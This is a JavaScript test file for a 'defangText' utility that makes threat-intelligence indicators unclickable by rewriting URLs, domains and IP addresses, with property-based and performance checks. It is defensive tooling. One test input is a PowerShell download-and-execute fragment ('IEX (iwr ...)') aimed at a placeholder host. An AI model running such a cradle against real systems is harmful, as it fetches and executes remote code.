import fc from 'fast-check';
import { defangText, realText } from './defang-text.js';

describe('defangText', () => {
  it.each([
    ["IEX (iwr 'http://a.example.test/x?y=1.2')", "IEX (iwr 'hxxp://a[.]example[.]test/x?y=1.2')"],
    ['HTTPS://B.example.test:8443/', 'HxxPS://B[.]example[.]test:8443/'],
    ['curl ftp://c.example.test/x', 'curl fxp://c[.]example[.]test/x'],
    ['ping 10.20.30.40 && ping 1.2.3', 'ping 10[.]20[.]30[.]40 && ping 1.2.3'],
    ['already hxxp://d[.]example.test', 'already hxxp://d[.]example[.]test'],
    ['[Net.WebClient]::new().Run()', '[Net.WebClient]::new().Run()'],
  ])('%s', (text, expected) => {
    expect(defangText(text)).toBe(expected);
  });

  it('knows a bare domain when it is an indicator, the longest first', () => {
    const indicators = [
      { value: 'e.test', defanged: 'e[.]test' },
      { value: 'cdn.e.test', defanged: 'cdn[.]e[.]test' },
    ];
    expect(defangText('nslookup cdn.e.test && nslookup e.test', indicators)).toBe('nslookup cdn[.]e[.]test && nslookup e[.]test');
  });

  it('takes replacement patterns in an indicator as text', () => {
    expect(defangText('get $&.example.test', [{ value: '$&.example.test', defanged: '$&[.]example[.]test' }])).toBe('get $&[.]example[.]test');
  });

  it('leaves no address that opens, whatever it is given, and does not change its own result', () => {
    const piece = fc.constantFrom('http://', 'https://', 'hxxp://', 'a.test', '10.0.0.1', '/', '.', '[.]', ' ', '"', 'ftp://');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = defangText(pieces.join(''));
        expect(once).not.toMatch(/\bhttps?:\/\//i);
        expect(defangText(once)).toBe(once);
      }),
    );
  });

  it('is quick on long hostile input', () => {
    for (const text of ['http://'.repeat(30_000), `hxxp://${'a.'.repeat(100_000)}`, '1.'.repeat(200_000)]) expect(defangText(text).length).toBeGreaterThan(0);
  });
});

describe('realText', () => {
  it('gives known indicators back', () => {
    expect(realText('It names cdn[.]e[.]test and 1[.]2[.]3[.]4.', [{ value: 'cdn.e.test', defanged: 'cdn[.]e[.]test' }])).toBe('It names cdn.e.test and 1[.]2[.]3[.]4.');
  });
});
